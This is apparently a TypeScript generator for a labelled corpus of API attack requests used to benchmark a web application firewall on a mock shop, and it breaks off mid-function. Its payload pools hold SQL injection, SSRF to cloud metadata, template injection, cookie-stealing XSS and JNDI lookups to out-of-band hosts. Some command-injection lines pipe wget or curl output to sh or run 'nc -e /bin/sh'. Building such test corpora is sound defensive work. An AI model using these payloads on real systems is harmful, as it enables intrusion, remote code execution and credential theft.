/**
 * An attack corpus shaped like the traffic of a headless shop: attacks as they arrive at its
 * JSON and GraphQL APIs, written from public write-ups and payload collections
 * (PayloadsAllTheThings' GraphQL, NoSQL, SQL, SSRF, SSTI, XXE and prototype-pollution pages,
 * HackTricks-style descriptions of GraphQL batching and alias abuse, CVE write-ups), never copied
 * from a tool's data files. Each request carries one payload placed where API attacks put it:
 * GraphQL inline arguments (plain and block strings, escaped quotes, `#` comments between
 * tokens), variables, inside inline fragments, in aliased and array batches, GraphQL over GET and
 * as `application/graphql`; JSON leaves at depth, in arrays, as keys, with `\uXXXX` escapes,
 * duplicated keys (the last one wins in most parsers), numbers sent as strings; NoSQL operator
 * objects; URL-typed fields (webhooks, callbacks, image and feed URLs) for SSRF with IP
 * encodings; XML, SOAP and SVG bodies for XXE; `__proto__` and `constructor.prototype` keys;
 * REST path parameters; headers (User-Agent, Referer, X-Forwarded-For, X-Api-Version); JSON
 * sent as text/plain or as a form, and in UTF-16. Evasions on top: comments, case, whitespace,
 * concatenation, encodings.
 * Labels per request: class, family (what the attack does), position (where it travels),
 * variant (evasion and transport), payload (the decisive value as composed), shape
 * (family|position|variant) and hold-out (30 % of shapes by FNV-1a).
 * Committed before the engine was run on it, and written without reading the engine's code.
 * Run: npx tsx bench/waf/corpora/generate-api-attacks.ts  (writes api-attacks.ndjson)
 * @module
 */
import { writeFileSync } from 'node:fs'
import type { WafRequest } from '../../../packages/core/src/waf/index.ts'
import { b64url, browserUserAgents, fnv1a, seededText } from './seeded-text.ts'

const SEED = 14042026
const COUNT = 2000
const { rand, pick, int, hex, alnum, uuid, drawWeighted } = seededText(SEED)
const UAS = browserUserAgents()

export type Position =
  | 'graphql-arg'
  | 'graphql-var'
  | 'graphql-fragment'
  | 'graphql-batch'
  | 'graphql-get'
  | 'graphql-raw'
  | 'json-leaf'
  | 'json-deep'
  | 'json-array'
  | 'json-key'
  | 'json-dup-key'
  | 'json-mislabelled'
  | 'query'
  | 'path'
  | 'header'
  | 'xml'
  | 'multipart'
export interface ApiAttack extends WafRequest {
  id: string
  class: string
  /** What the attack does, e.g. `sqli-union`, `ssrf-metadata`, `nosql-where`. */
  family: string
  position: Position
  /** Evasion and transport, e.g. `comments+unicode-escape`. */
  variant: string
  /** The decisive value as the attacker composed it, before transport encoding. */
  payload: string
  /** family|position|variant: the unit the hold-out is drawn from. */
  shape: string
  holdout: boolean
}

// --- Fills ------------------------------------------------------------------------------------

const HOST = 'shop.example'
const ORIGIN = 'https://shop.example'
const oast = (): string => `${alnum(16).toLowerCase()}.${pick(['oast.fun', 'oast.pro', 'interact.sh', 'burpcollaborator.net', 'dnslog.cn', 'requestbin.net'])}`
const atkIp = (): string => `${int(31, 223)}.${int(0, 255)}.${int(0, 255)}.${int(1, 254)}`
const gid = (type: string): string => `gid://shopify/${type}/${int(1e9, 9e9)}`
const jwt = (): string => `${b64url('{"alg":"HS256","typ":"JWT"}')}.${b64url(JSON.stringify({ sub: uuid(), iat: 1760000000 + int(0, 9999999) }))}.${alnum(43)}`

function headers(kind: 'json' | 'graphql' | 'get', extra: Record<string, string> = {}): Record<string, string> {
  const h: Record<string, string> = {
    host: HOST,
    'user-agent': rand() < 0.85 ? pick(UAS) : pick(['python-requests/2.31.0', 'curl/8.5.0', 'Go-http-client/1.1', 'PostmanRuntime/7.36.1', 'axios/1.6.8', 'node-fetch/1.0']),
    accept: kind === 'get' ? 'application/json' : pick(['application/json', '*/*', 'application/graphql-response+json, application/json']),
    'accept-encoding': pick(['gzip, deflate, br', 'gzip']),
  }
  if (rand() < 0.6) h.origin = ORIGIN
  if (rand() < 0.5) h.authorization = `Bearer ${jwt()}`
  if (rand() < 0.4) h['x-shopify-storefront-access-token'] = hex(32)
  if (kind !== 'get') h['content-type'] = 'application/json'
  return { ...h, ...extra }
}

// --- Evasions on the payload text ---------------------------------------------------------------

/** SQL keywords' case shuffled, as sqlmap's randomcase and hand-written bypasses do. */
const randCase = (s: string): string => s.replace(/[a-z]/gi, (c) => (rand() < 0.5 ? c.toUpperCase() : c.toLowerCase()))
const SQL_WS = ['/**/', '/*x*/', '\t', '\n', '\r\n', '  ', '\u000b']
type Evasion = (s: string) => string
const SQL_EVASIONS: Record<string, Evasion> = {
  plain: (s) => s,
  comments: (s) => s.replaceAll(' ', pick(['/**/', '/*!*/', `/*${alnum(4)}*/`])),
  case: randCase,
  whitespace: (s) => s.replace(/ /g, () => pick(SQL_WS)),
  'mysql-versioned': (s) => s.replace(/\b(UNION|SELECT|AND|OR|SLEEP)\b/g, (k) => `/*!50000${k}*/`),
}
const escJsonAll = (s: string): string => s.replace(/[^A-Za-z0-9 ]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`)

// --- Payload pools (from the public collections named in the module comment) ----------------------

/** SQL injection, breaking out of a string (`'`), a double-quoted string or a number. */
const SQLI: Record<string, () => string> = {
  'sqli-boolean': () => pick([`' OR '1'='1`, `' OR 1=1-- -`, `1' OR '1'='1' -- `, `" OR "a"="a`, `1 OR 1=1`, `') OR ('x'='x`, `' OR 'x' LIKE 'x`, `admin'--`, `' OR 2>1#`, `1) OR (1=1`, `x' OR ${int(2, 99)}=${int(2, 99)} OR 'a'='b`]),
  'sqli-union': () => pick([
    `' UNION SELECT NULL,NULL,NULL-- -`,
    `' UNION SELECT username,password,3 FROM users-- -`,
    `1 UNION ALL SELECT email,password_hash FROM customer_entity--`,
    `' UNION SELECT table_name,NULL FROM information_schema.tables-- -`,
    `-1 UNION SELECT 1,group_concat(email,0x3a,password),3 FROM admin_user#`,
    `') UNION SELECT version(),current_user-- `,
  ]),
  'sqli-time': () => pick([`' AND SLEEP(5)-- -`, `1 AND SLEEP(${int(3, 10)})`, `'; WAITFOR DELAY '0:0:5'--`, `' || pg_sleep(5)--`, `1' AND (SELECT 1 FROM (SELECT SLEEP(5))a)-- -`, `1; SELECT pg_sleep(10)--`, `' AND 1=(SELECT 1 FROM PG_SLEEP(5))--`, `1 AND BENCHMARK(5000000,MD5(1))`]),
  'sqli-error': () => pick([
    `' AND extractvalue(1,concat(0x7e,(SELECT version())))-- -`,
    `1' AND updatexml(1,concat(0x7e,user()),1)-- -`,
    `' AND 1=CONVERT(int,(SELECT @@version))--`,
    `' AND 1=CAST((SELECT current_database()) AS int)--`,
    `1 AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT(0x7e,database(),0x7e))s), 8446744073709551610, 8446744073709551610)))`,
  ]),
  'sqli-stacked': () => pick([`1; DROP TABLE orders--`, `'; UPDATE users SET role='admin' WHERE email='${alnum(6)}@example.com'--`, `1; INSERT INTO admin_user (username,password) VALUES ('x','y')--`, `'; EXEC xp_cmdshell('whoami')--`, `1; COPY (SELECT '') TO PROGRAM 'curl http://${oast()}'--`]),
  'sqli-order': () => pick([`price ASC, (SELECT CASE WHEN (1=1) THEN 1 ELSE 1/0 END)`, `(CASE WHEN (SELECT substring(password,1,1) FROM users LIMIT 1)='a' THEN price ELSE name END)`, `name; SELECT pg_sleep(5)`, `1,extractvalue(1,concat(0x7e,version()))`, `created_at DESC LIMIT 1 UNION SELECT 1,2,3`, `IF(1=1,price,name)`]),
  'sqli-concat': () => pick([`' || (SELECT version()) || '`, `'||(SELECT CHR(65)||CHR(66) FROM dual)||'`, `' + (SELECT TOP 1 name FROM sysobjects) + '`, `' AND CONCAT(CHAR(97),CHAR(100))=CONCAT('a','d')-- `, `1' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64-- -`]),
}

const SSRF_TARGETS: Record<string, () => string> = {
  'ssrf-metadata': () => pick([
    'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
    'http://169.254.169.254/latest/user-data',
    'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token',
    'http://169.254.169.254/metadata/instance?api-version=2021-02-01',
    'http://100.100.100.200/latest/meta-data/',
    'http://169.254.170.2/v2/credentials',
    'http://[fd00:ec2::254]/latest/meta-data/',
  ]),
  'ssrf-ip-encoding': () => pick([
    'http://2852039166/latest/meta-data/',
    'http://0xa9fea9fe/latest/meta-data/',
    'http://0251.0376.0251.0376/latest/meta-data/',
    'http://0xa9.0xfe.0xa9.0xfe/',
    'http://169.254.43518/',
    'http://[::ffff:169.254.169.254]/latest/meta-data/',
    'http://[::ffff:a9fe:a9fe]/',
    'http://017700000001:8080/admin',
    'http://0x7f000001/',
    'http://127.1:6379/',
    'http://0/',
    'http://2130706433/server-status',
  ]),
  'ssrf-internal': () => pick([
    'http://127.0.0.1:6379/',
    'http://localhost:8080/actuator/env',
    'http://[::1]:2375/containers/json',
    'http://127.0.0.1:9200/_cat/indices',
    'http://10.0.0.5:8500/v1/agent/self',
    'http://192.168.1.1/admin',
    'http://localhost/server-status',
    'http://kubernetes.default.svc/api/v1/namespaces/default/secrets',
  ]),
  'ssrf-scheme': () => pick([
    'file:///etc/passwd',
    'file:///proc/self/environ',
    'gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A',
    'dict://127.0.0.1:11211/stats',
    'ldap://127.0.0.1:389/%0astats%0aquit',
    'tftp://' + atkIp() + '/x',
    'jar:http://' + atkIp() + '/a.jar!/',
  ]),
  'ssrf-rebinding': () => pick([
    `http://169.254.169.254.nip.io/latest/meta-data/`,
    `http://7f000001.${hex(8)}.rbndr.us/`,
    `http://127.0.0.1.sslip.io:8080/`,
    `http://localtest.me/admin`,
    `http://shop.example@169.254.169.254/latest/meta-data/`,
    `http://169.254.169.254%23@shop.example/`,
    `http://${oast()}#@169.254.169.254/`,
  ]),
}

const SSTI: Record<string, () => string> = {
  'ssti-probe': () => pick(['{{7*7}}', '${7*7}', '<%= 7*7 %>', '#{7*7}', '{{7*\'7\'}}', '${{7*7}}', '@(7*7)', '{7*7}', '*{7*7}']),
  'ssti-jinja': () => pick([
    "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{x()._module.__builtins__['__import__']('os').popen('id').read()}}{% endif %}{% endfor %}",
    "{{ config.items() }}",
    "{{ request.application.__globals__.__builtins__.__import__('os').popen('cat /etc/passwd').read() }}",
  ]),
  'ssti-node': () => pick([
    "{{constructor.constructor('return process')().mainModule.require('child_process').execSync('id')}}",
    "<%= global.process.mainModule.require('child_process').execSync('id') %>",
    '{{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub "constructor")}}{{/with}}{{/with}}{{/with}}',
    "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad('child_process').exec('id')}()}",
    '${require("child_process").execSync("id")}',
  ]),
  'ssti-java': () => pick([
    '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
    '#set($x=$class.inspect("java.lang.Runtime").type.getRuntime().exec("id"))',
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "*{T(java.lang.Runtime).getRuntime().exec('whoami')}",
    '${"freemarker.template.utility.Execute"?new()("id")}',
  ]),
  'ssti-php': () => pick([
    '{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}',
    "{{['id']|filter('system')}}",
    "{{['cat /etc/passwd']|map('passthru')|join}}",
    '{php}echo `id`;{/php}',
    "{system('id')}",
    '{{var_dump(app)}}',
  ]),
}

const XSS: Record<string, () => string> = {
  'xss-stored': () => pick([
    '<img src=x onerror=alert(document.domain)>',
    '<svg/onload=fetch(`//' + oast() + '/?c=`+document.cookie)>',
    '<script src=//' + oast() + '/x.js></script>',
    '"><script>alert(1)</script>',
    '<iframe srcdoc="<script>parent.alert(1)</script>">',
    '<details open ontoggle=alert(1)>',
    '<a href="javascript:alert(1)">click</a>',
    "<img src=1 onerror=\"eval(atob('" + Buffer.from('alert(1)').toString('base64') + "'))\">",
  ]),
  'xss-markdown': () => pick(['[click me](javascript:alert(document.cookie))', '![x](x"onerror="alert(1))', '[a](javascript&#58;alert(1))', '<javascript:alert(1)>']),
}

const RCE: Record<string, () => string> = {
  'rce-command': () => pick([`; id`, `| cat /etc/passwd`, `$(curl -s http://${oast()}/$(whoami))`, '`id`', `&& wget http://${atkIp()}/x.sh -O- | sh`, `; nslookup ${oast()}`, `|| ping -c 3 ${oast()}`, `\nid\n`]),
  'rce-filename': () => pick([`a.png; curl http://${atkIp()}/s|sh`, `$(id).jpg`, `x.jpg|nc ${atkIp()} 4444 -e /bin/sh`, '`touch /tmp/pwn`.pdf']),
}

const TRAVERSAL: Record<string, () => string> = {
  'traversal-file': () => pick(['../../../../etc/passwd', '..\\..\\..\\..\\windows\\win.ini', '....//....//....//etc/passwd', '/etc/passwd', '../../../../../proc/self/environ', '..%2f..%2f..%2f..%2fetc%2fpasswd', '../../app/etc/env.php', '../../../.env', 'file:///etc/shadow', '../../../../etc/passwd%00.json']),
}

const JNDI: Record<string, () => string> = {
  'jndi-lookup': () => pick([
    `\${jndi:ldap://${oast()}/a}`,
    `\${jndi:dns://${oast()}}`,
    `\${\${lower:j}ndi:\${lower:l}dap://${oast()}/x}`,
    `\${\${::-j}\${::-n}\${::-d}\${::-i}:rmi://${atkIp()}:1099/o}`,
    `\${jndi:\${lower:l}\${lower:d}a\${lower:p}://${oast()}/}`,
    `\${\${env:NaN:-j}ndi\${env:NaN:-:}\${env:NaN:-l}dap\${env:NaN:-:}//${oast()}/z}`,
  ]),
}

const LDAP: Record<string, () => string> = {
  'ldap-filter': () => pick(['*)(uid=*))(|(uid=*', 'admin)(&)', '*)(|(objectClass=*)', 'x*)(userPassword=*)', '*))%00']),
}

/** NoSQL (MongoDB) operator objects and JavaScript strings for `$where`. */
const NOSQL_OBJECTS: Record<string, () => unknown> = {
  'nosql-ne': () => pick([{ $ne: null }, { $ne: '' }, { $gt: '' }, { $nin: [] }, { $exists: true }]),
  'nosql-regex': () => pick([{ $regex: '.*' }, { $regex: '^adm', $options: 'i' }, { $regex: `^${alnum(1)}` }]),
  'nosql-where': () => pick([{ $where: 'sleep(5000) || true' }, { $where: "this.password.match(/^a.*/)" }, { $where: 'function(){return true}' }]),
  'nosql-function': () => pick([
    { $function: { body: 'function(){ sleep(5000); return true }', args: [], lang: 'js' } },
    { $expr: { $function: { body: 'function(p){ return p.length > 0 }', args: ['$password'], lang: 'js' } } },
    { $accumulator: { init: 'function(){ return 1 }', accumulate: 'function(s){ return s }', accumulateArgs: [], merge: 'function(a){ return a }', lang: 'js' } },
  ]),
}
const NOSQL_STRINGS: Record<string, () => string> = {
  'nosql-js-string': () => pick([`'; return true; var x='`, `' || '1'=='1`, `"; sleep(5000); var x="`, `'; while(true){}; '`, `1; return db.users.find()`, `' && this.password.match(/.*/)//`]),
}

// --- Where API attacks travel ---------------------------------------------------------------

const out: ApiAttack[] = []
function add(cls: string, family: string, position: Position, variant: string, payload: string, req: WafRequest): void {
  const shape = `${family}|${position}|${variant}`
  out.push({ id: `api-attack-${String(out.length).padStart(4, '0')}`, class: cls, family, position, variant, payload, shape, holdout: fnv1a(shape) % 10 < 3, ...req })
}

/** A GraphQL string literal: `"…"` with JSON-style escapes, or a block string. */
function gqlString(value: string, escape: 'plain' | 'unicode'): string {
  if (escape === 'unicode') return `"${value.replace(/[^A-Za-z0-9 ]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`)}"`
  if (value.includes('\n') || (value.includes('"') && rand() < 0.5)) return `"""${value.replaceAll('"""', '\\"""')}"""`
  return JSON.stringify(value)
}

/** A storefront or admin field that takes text, with the argument name it is written into. */
const GQL_TEXT_FIELDS: Array<{ field: string; arg: string; sel: string; mutation?: boolean }> = [
  { field: 'products', arg: 'query', sel: 'edges { node { id title handle } }' },
  { field: 'search', arg: 'query', sel: 'edges { node { __typename ... on Product { id title } } }' },
  { field: 'product', arg: 'handle', sel: 'id title descriptionHtml' },
  { field: 'collection', arg: 'handle', sel: 'id products(first: 12) { nodes { id } }' },
  { field: 'order', arg: 'id', sel: 'id totalPrice { amount }' },
  { field: 'customer', arg: 'customerAccessToken', sel: 'id email orders(first: 5) { nodes { id } }' },
  { field: 'customerAccessTokenCreate', arg: 'email', sel: 'customerAccessToken { accessToken } customerUserErrors { message }', mutation: true },
  { field: 'cartNoteUpdate', arg: 'note', sel: 'cart { id note }', mutation: true },
  { field: 'productReviewCreate', arg: 'body', sel: 'review { id }', mutation: true },
  { field: 'giftCardMessageUpdate', arg: 'message', sel: 'giftCard { id }', mutation: true },
]
const OPS = ['ProductSearch', 'GetProduct', 'CartUpdate', 'Login', 'OrderLookup', 'Q', 'x', 'IntrospectionQuery']
const selection = (): string => pick(['id', 'id title', 'id title handle vendor', '__typename id'])

/** A request carrying a GraphQL document (and variables) as the position asks. */
function graphqlRequest(position: Position, query: string, variables?: Record<string, unknown>, operationName?: string): WafRequest {
  const uri = pick(['/graphql', '/api/2024-07/graphql.json', '/api/graphql', '/graphql/', '/storefront/graphql', '/admin/api/2024-04/graphql.json'])
  if (position === 'graphql-get') {
    const qs = `query=${encodeURIComponent(query)}${variables === undefined ? '' : `&variables=${encodeURIComponent(JSON.stringify(variables))}`}${operationName === undefined ? '' : `&operationName=${operationName}`}`
    return { method: 'GET', uri: `${uri}?${qs}`, headers: headers('get') }
  }
  if (position === 'graphql-raw') return { method: 'POST', uri, headers: headers('graphql', { 'content-type': 'application/graphql' }), body: query }
  const doc: Record<string, unknown> = { query }
  if (variables !== undefined) doc.variables = variables
  if (operationName !== undefined) doc.operationName = operationName
  return { method: 'POST', uri, headers: headers('graphql'), body: JSON.stringify(doc) }
}

/** Places a text payload in a GraphQL document at one of the GraphQL positions. */
function placeGraphql(cls: string, family: string, payload: string, evasion: string): void {
  const f = pick(GQL_TEXT_FIELDS)
  const kw = f.mutation ? 'mutation' : 'query'
  const op = pick(OPS)
  const position = pick<Position>(['graphql-arg', 'graphql-arg', 'graphql-var', 'graphql-var', 'graphql-fragment', 'graphql-batch', 'graphql-get', 'graphql-raw'])
  const escape = rand() < 0.25 && position !== 'graphql-var' ? 'unicode' : 'plain'
  // `#` comments and line breaks between tokens: what GraphQL lexers skip and signature WAFs do not.
  const sep = rand() < 0.2 ? ` # ${pick(['todo', 'cache bust', alnum(6)])}\n  ` : ' '
  let transport = escape === 'unicode' ? 'gql-unicode-escape' : 'plain'
  if (sep !== ' ') transport += '+gql-comments'
  const lit = gqlString(payload, escape)
  switch (position) {
    case 'graphql-arg':
    case 'graphql-get':
    case 'graphql-raw': {
      const q = `${kw} ${op} {${sep}${f.field}(${f.arg}:${sep}${lit}${f.field === 'products' ? ', first: 10' : ''}) { ${f.sel} } }`
      add(cls, family, position, `${evasion}+${transport}`, payload, graphqlRequest(position, q, undefined, rand() < 0.5 ? op : undefined))
      return
    }
    case 'graphql-var': {
      const q = `${kw} ${op}($v: String!${rand() < 0.5 ? ', $first: Int = 10' : ''}) {${sep}${f.field}(${f.arg}: $v) { ${f.sel} } }`
      add(cls, family, position, `${evasion}+${transport}`, payload, graphqlRequest(position, q, { v: payload, ...(rand() < 0.5 ? { first: 10 } : {}) }, op))
      return
    }
    case 'graphql-fragment': {
      const q = `query ${op} { node(id: "${gid('Product')}") { id ... on Product {${sep}title variants(first: 5, query: ${lit}) { nodes { id } } } ...F } } fragment F on Product { handle }`
      add(cls, family, position, `${evasion}+${transport}`, payload, graphqlRequest('graphql-fragment', q))
      return
    }
    case 'graphql-batch': {
      if (rand() < 0.5) {
        // Aliases: one document, many calls of one field (login brute force, enumeration).
        const n = int(3, 12)
        const calls = Array.from({ length: n }, (_, i) => `a${i}: ${f.field}(${f.arg}: ${i === n - 1 ? lit : JSON.stringify(pick(['test', `user${i}@example.com`, String(int(1000, 9999))]))}) { ${f.sel} }`)
        add(cls, family, position, `${evasion}+alias-batch+${transport}`, payload, graphqlRequest('graphql-batch', `${kw} {${sep}${calls.join(' ')} }`))
      } else {
        const docs = Array.from({ length: int(2, 6) }, () => ({ query: `query { shop { name } }` }))
        docs.push({ query: `${kw} ${op}($v: String!) { ${f.field}(${f.arg}: $v) { ${f.sel} } }`, variables: { v: payload } } as { query: string })
        add(cls, family, position, `${evasion}+array-batch`, payload, { method: 'POST', uri: '/graphql', headers: headers('graphql'), body: JSON.stringify(docs) })
      }
      return
    }
  }
}

/** A REST JSON body with the payload at one of the JSON positions. */
const REST_ENDPOINTS: Array<{ method: string; uri: () => string; wrap: (field: string, v: unknown) => unknown }> = [
  { method: 'POST', uri: () => '/api/cart/items', wrap: (f, v) => ({ items: [{ variantId: int(1e5, 9e5), quantity: 1, properties: { [f]: v } }] }) },
  { method: 'POST', uri: () => '/api/checkout', wrap: (f, v) => ({ email: 'jane@example.com', shippingAddress: { firstName: 'Jane', lastName: 'Doe', address1: '1 Main St', city: 'Leeds', country: 'GB', [f]: v }, lines: [{ sku: `SKU-${alnum(6)}`, qty: 1 }] }) },
  { method: 'PUT', uri: () => `/api/v1/customers/${int(1000, 99999)}`, wrap: (f, v) => ({ customer: { id: int(1000, 99999), preferences: { newsletter: true, [f]: v } } }) },
  { method: 'POST', uri: () => '/api/search', wrap: (f, v) => ({ query: { filter: { and: [{ field: 'brand', eq: 'acme' }, { field: f, eq: v }] } }, page: 1, size: 24 }) },
  { method: 'PATCH', uri: () => `/api/orders/${int(100000, 999999)}`, wrap: (f, v) => ({ order: { meta: { source: 'web', tags: ['gift'], [f]: v } } }) },
  { method: 'POST', uri: () => '/api/reviews', wrap: (f, v) => ({ productId: int(1, 99999), rating: 5, review: { title: 'Great', [f]: v } }) },
]
const TEXT_FIELDS: Record<string, string[]> = {
  sqli: ['id', 'sku', 'email', 'sort', 'orderBy', 'couponCode', 'category', 'customerId', 'search'],
  ssti: ['note', 'giftMessage', 'template', 'message', 'engraving', 'displayName'],
  xss: ['body', 'title', 'note', 'displayName', 'bio', 'company'],
  rce: ['filename', 'host', 'format', 'exportName', 'font'],
  path_traversal: ['template', 'file', 'locale', 'theme', 'path', 'attachment'],
  jndi: ['note', 'referrer', 'deviceName', 'search', 'email'],
  ldapi: ['username', 'login', 'group'],
  nosqli: ['email', 'password', 'token', 'code'],
  ssrf: ['webhookUrl', 'callbackUrl', 'imageUrl', 'avatarUrl', 'feedUrl', 'logoUrl', 'returnUrl', 'source'],
}

/** Places a text payload in a JSON body (leaf, depth, array, key, duplicated key, escaped, mislabelled). */
function placeJson(cls: string, family: string, payload: string, evasion: string): void {
  const field = pick(TEXT_FIELDS[cls]!)
  const ep = pick(REST_ENDPOINTS)
  const position = pick<Position>(['json-leaf', 'json-leaf', 'json-deep', 'json-array', 'json-key', 'json-dup-key', 'json-mislabelled'])
  const escaped = rand() < 0.3
  // `\uXXXX` for every character of the payload but letters, digits and spaces, as JSON allows.
  const ser = (doc: unknown): string => (escaped ? JSON.stringify(doc).replaceAll(JSON.stringify(payload), `"${escJsonAll(payload)}"`) : JSON.stringify(doc))
  const transport = escaped ? 'unicode-escape' : 'plain'
  const req = (body: string, ctype = 'application/json'): WafRequest => ({ method: ep.method, uri: ep.uri(), headers: headers('json', { 'content-type': ctype }), body })
  switch (position) {
    case 'json-leaf':
      add(cls, family, position, `${evasion}+${transport}`, payload, req(ser(ep.wrap(field, payload))))
      return
    case 'json-deep': {
      let v: unknown = { [field]: payload }
      for (let i = int(4, 12); i > 0; i--) v = rand() < 0.3 ? [v] : { [pick(['data', 'attributes', 'meta', 'extra', 'payload', 'context', 'custom', 'fields', 'value'])]: v }
      add(cls, family, position, `${evasion}+${transport}`, payload, req(ser(ep.wrap('metadata', v))))
      return
    }
    case 'json-array': {
      const arr = [String(int(1, 999)), String(int(1, 999)), payload, String(int(1, 999))]
      add(cls, family, position, `${evasion}+${transport}`, payload, req(ser(ep.wrap(`${field}s`, arr))))
      return
    }
    case 'json-key': {
      // A key the application puts into a query: a sort or projection map, a filter by column name.
      const doc = pick([{ sort: { [payload]: 'asc' } }, { fields: { [payload]: 1, title: 1 } }, { filter: { [payload]: 'x' } }, { attributes: { [payload]: true } }])
      add(cls, family, position, `${evasion}+${transport}`, payload, req(ser(doc)))
      return
    }
    case 'json-dup-key': {
      // The same key twice: a filter reads the first, most parsers keep the last.
      const benign = JSON.stringify(pick(['jane@example.com', 'SKU-1001', 'hello', 'price']))
      const body = `{"${field}":${benign},"page":1,"${field}":${escaped ? `"${escJsonAll(payload)}"` : JSON.stringify(payload)}}`
      add(cls, family, position, `${evasion}+${transport}`, payload, req(body))
      return
    }
    case 'json-mislabelled': {
      const ctype = pick(['text/plain', 'text/plain;charset=UTF-8', 'application/x-www-form-urlencoded', 'application/octet-stream', 'application/json; charset=utf-16'])
      if (ctype.endsWith('utf-16')) {
        add(cls, family, position, `${evasion}+utf-16`, payload, { ...req('', ctype), body: Buffer.from(JSON.stringify(ep.wrap(field, payload)), 'utf16le').toString('base64'), body_encoding: 'base64' })
        return
      }
      add(cls, family, position, `${evasion}+${ctype.split(/[;/]/)[1]}`, payload, req(JSON.stringify(ep.wrap(field, payload)), ctype))
      return
    }
  }
}

/** REST path parameters: the id in `/api/orders/{id}`, raw, percent-encoded or double-encoded. */
function placePath(cls: string, family: string, payload: string, evasion: string): void {
  const base = pick(['/api/orders/', '/api/v1/products/', '/api/customers/', '/api/v2/carts/', '/api/files/', '/api/invoices/', '/storefront/api/collections/'])
  const enc = pick(['percent', 'percent', 'double', 'raw-spaces-as-%20'])
  const seg = enc === 'double' ? encodeURIComponent(payload).replaceAll('%', '%25') : enc === 'percent' ? encodeURIComponent(payload).replace(/'/g, '%27') : payload.replace(/[ #?%]/g, (c) => `%${c.charCodeAt(0).toString(16).toUpperCase()}`)
  const prefix = cls === 'path_traversal' ? String(int(1, 99999)) + '/' : ''
  const tail = pick(['', '', '/items', '/status', '.json'])
  add(cls, family, 'path', `${evasion}+${enc}`, payload, { method: pick(['GET', 'GET', 'DELETE', 'PUT']), uri: `${base}${prefix}${seg}${tail}`, headers: headers('get') })
}

/** Query parameters of REST endpoints: filters, sort, fields, callback URLs. */
function placeQuery(cls: string, family: string, payload: string, evasion: string): void {
  const field = pick(TEXT_FIELDS[cls]!)
  const enc = pick(['percent', 'percent', 'double', 'plus'])
  const v = enc === 'double' ? encodeURIComponent(payload).replaceAll('%', '%25') : enc === 'plus' ? encodeURIComponent(payload).replaceAll('%20', '+') : encodeURIComponent(payload)
  const name = pick([field, `filter[${field}]`, `where[${field}][eq]`, `q[${field}]`])
  add(cls, family, 'query', `${evasion}+${enc}`, payload, { method: 'GET', uri: `${pick(['/api/products', '/api/v1/orders', '/api/search', '/api/customers', '/api/storefront/items'])}?${name}=${v}&limit=${pick(['10', '24', '50'])}`, headers: headers('get') })
}

/** Headers APIs log or act on: User-Agent, Referer, X-Forwarded-For, X-Api-Version, Accept-Language. */
function placeHeader(cls: string, family: string, payload: string, evasion: string): void {
  const header = cls === 'jndi' ? pick(['user-agent', 'referer', 'x-forwarded-for', 'x-api-version', 'x-request-id', 'authorization']) : cls === 'path_traversal' ? pick(['accept-language', 'x-locale', 'x-theme']) : pick(['user-agent', 'referer', 'x-forwarded-for', 'x-client-id', 'x-device-id'])
  const value = header === 'authorization' ? `Bearer ${payload}` : header === 'referer' && cls !== 'jndi' ? `${ORIGIN}/products?id=${payload.replaceAll(' ', '%20')}` : payload
  const req = rand() < 0.5 ? { method: 'GET', uri: `/api/products?limit=${int(1, 50)}`, headers: headers('get', { [header]: value }) } : graphqlRequest('graphql-arg', `query { shop { name } products(first: 5) { nodes { id } } }`)
  add(cls, family, 'header', `${evasion}+${header}`, payload, { ...req, headers: { ...req.headers, [header]: value } })
}

function placeText(cls: string, family: string, payload: string, evasion: string, where: ReadonlyArray<'graphql' | 'json' | 'path' | 'query' | 'header'>): void {
  switch (pick(where)) {
    case 'graphql':
      return placeGraphql(cls, family, payload, evasion)
    case 'json':
      return placeJson(cls, family, payload, evasion)
    case 'path':
      return placePath(cls, family, payload, evasion)
    case 'query':
      return placeQuery(cls, family, payload, evasion)
    case 'header':
      return placeHeader(cls, family, payload, evasion)
  }
}

/** A payload family drawn from a pool, with one of the evasions the class allows. */
function textAttack(cls: string, pool: Record<string, () => string>, evasions: Record<string, Evasion>, where: ReadonlyArray<'graphql' | 'json' | 'path' | 'query' | 'header'>): () => void {
  return () => {
    const family = pick(Object.keys(pool))
    const evasion = pick(Object.keys(evasions))
    placeText(cls, family, evasions[evasion]!(pool[family]!()), evasion, where)
  }
}
const PLAIN: Record<string, Evasion> = { plain: (s) => s }
const SSTI_EVASIONS: Record<string, Evasion> = { plain: (s) => s, whitespace: (s) => s.replace(/\{\{ ?/g, '{{  ').replace(/ ?\}\}/g, '  }}'), 'string-concat': (s) => s.replace(/'id'/g, "'i'+'d'").replace(/"id"/g, '"i"~"d"') }
const XSS_EVASIONS: Record<string, Evasion> = { plain: (s) => s, case: (s) => s.replace(/<([a-z]+)/gi, (_, t: string) => `<${randCase(t)}`).replace(/on[a-z]+=/gi, (h) => randCase(h)), entities: (s) => s.replace(/alert/g, '&#97;lert').replace(/javascript:/g, 'jav&#x09;ascript:'), whitespace: (s) => s.replace(/ /g, () => pick(['/', '\n', '\t', ' '])) }
const SSRF_EVASIONS: Record<string, Evasion> = { plain: (s) => s, case: (s) => s.replace(/^[a-z]+:/i, (p) => p.toUpperCase()), 'trailing-dot': (s) => s.replace(/^(https?:\/\/[^/:]+)/i, '$1.'), 'backslash': (s) => s.replace(/^(https?:)\/\//i, '$1\\\\') }

/** SSRF: URL-typed fields of webhooks, image imports, feeds, avatars, PDF renderers. */
function ssrf(): void {
  const family = pick(Object.keys(SSRF_TARGETS))
  const evasion = pick(Object.keys(SSRF_EVASIONS))
